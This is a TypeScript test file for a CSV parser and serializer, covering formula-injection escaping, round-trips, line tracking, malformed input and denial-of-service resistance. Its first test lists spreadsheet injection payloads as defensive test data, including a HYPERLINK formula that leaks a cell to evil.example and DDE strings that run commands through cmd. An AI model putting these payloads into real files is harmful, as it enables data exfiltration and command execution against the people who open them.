import fc from "fast-check";
import { describe, expect, test, vi } from "vitest";
import { growthOf } from "../../testing/growth.ts";
import { csvRecords, csvText, malformedCsv } from "./csv.ts";

async function* bytesOf(text: string, size = 7): AsyncGenerator<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

const read = async (text: string) => {
  const found: [number, ...string[]][] = [];
  for await (const { line, cells } of csvRecords(bytesOf(text))) found.push([line, ...cells]);
  return found;
};

test("what could be a formula is text, in whatever way it is hidden", () => {
  const hostile = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＠SUM(1)",
    "'=1",
  ];
  for (const cell of hostile) {
    expect(csvText([[cell]]).replace(/^"/, "")).toMatch(/^'/);
  }
});

test("numbers and telephone numbers stay as they are", () => {
  expect(csvText([["-3.50", "+49 (30) 12-34", -7, "'t Hooft", "a=b"]])).toBe(
    "-3.50,+49 (30) 12-34,-7,'t Hooft,a=b\r\n",
  );
});

test("null is empty; lists are JSON; quotes, commas and line ends are quoted", () => {
  expect(csvText([[null, undefined, true, [{ a: 1 }], 'say "hi", you', "a\nb"]])).toBe(
    ',,true,"[{""a"":1}]","say ""hi"", you","a\nb"\r\n',
  );
});

test("what was written is read as it was", async () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.stringMatching(/^'*[=+\-@\t\r\n][ -~]*$/),
    fc.constantFrom("", '"', '""', ",", "\r\n", "'", "''", "\ufeff", "＝"),
  );
  const table = fc
    .integer({ min: 1, max: 4 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width })));
  await fc.assert(
    fc.asyncProperty(table, async (rows) => {
      // A line of nothing is no record.
      const filled = rows.map((row) => ["x", ...row]);
      const records = await read(csvText(filled));
      expect(records.map(([, ...cells]) => cells)).toEqual(filled);
    }),
  );
});

test("each record has the line on which it begins", async () => {
  const text = '\ufeffname,notes\r\n\r\nAda,"one\r\ntwo\nthree"\nGrace,\n\n\nHopper,x';
  expect(await read(text)).toEqual([
    [1, "name", "notes"],
    [3, "Ada", "one\r\ntwo\nthree"],
    [6, "Grace", ""],
    [9, "Hopper", "x"],
  ]);
});

describe("is refused:", () => {
  test.each([
    ["a quote that is never closed", 'name\n"Ada'],
    ["a quote in the middle", 'name\nA"da"'],
    ["a record without end", `name\n"${"x".repeat(200_000)}"`],
  ])("%s", async (_what, text) => {
    await expect(read(text)).rejects.toMatchObject({ code: malformedCsv.code });
    await expect(read(text)).rejects.not.toThrow(/Ada|xxx/);
  });

  test("what is not UTF-8", async () => {
    async function* latin1() {
      yield Uint8Array.of(0x6e, 0xe9, 0x0a);
    }
    const reading = async () => {
      for await (const _record of csvRecords(latin1())) expect.unreachable();
    };
    await expect(reading()).rejects.toMatchObject({ code: malformedCsv.code });
  });

  test("what can't be read to its end", async () => {
    async function* broken() {
      yield new TextEncoder().encode("name\nAda\n");
      throw new Error("the client went away");
    }
    const reading = async () => {
      for await (const _record of csvRecords(broken())) void 0;
    };
    await expect(reading()).rejects.toThrow("the client went away");
  });
});

describe("a hostile file", () => {
  const head = "name,email,phone,company,notes\n";
  const drain = async (text: string) => {
    try {
      for await (const _record of csvRecords(bytesOf(text, 65_536)));
    } catch (error) {
      expect(error).toMatchObject({ code: malformedCsv.code });
    }
  };
  const pieces = {
    "of empty lines": "\n",
    "of short rows": "a\n",
    "of long rows": "a,a,a,a,a,a,a,a,a\n",
    "of rows of many lengths": "a\na,b\na,b,c\n",
    "of quoted nothing": '""\n',
    "of one cell": "x",
    "of one row": ",",
    "of one quoted cell of quotes": '""',
    "of quoted line ends": '"\r\n",',
  };

  test.each(Object.entries(pieces))("%s is parsed in linear time", async (_kind, piece) => {
    const growth = await growthOf((text) => drain(head + text), [piece]);
    expect(growth?.ratio ?? 0).toBeLessThan(10);
  });

  test.each(Object.entries(pieces))("%s makes no error for each row", async (_kind, piece) => {
    const made = vi.spyOn(Error, "captureStackTrace");
    try {
      await drain(head + piece.repeat(1_000));
      expect(made.mock.calls.length).toBeLessThan(10);
    } finally {
      made.mockRestore();
    }
  });

  test.each([
    ["\n", 4_000_000],
    ["a\n", 100_000],
    ['""\n', 100_000],
  ])("of many times %j lets the event loop turn", async (piece, times) => {
    let turns = 0;
    let parsing = true;
    const turn = () => {
      turns += 1;
      if (parsing) setImmediate(turn);
    };
    setImmediate(turn);
    await drain(head + piece.repeat(times));
    parsing = false;
    expect(turns).toBeGreaterThan(5);
  });
});
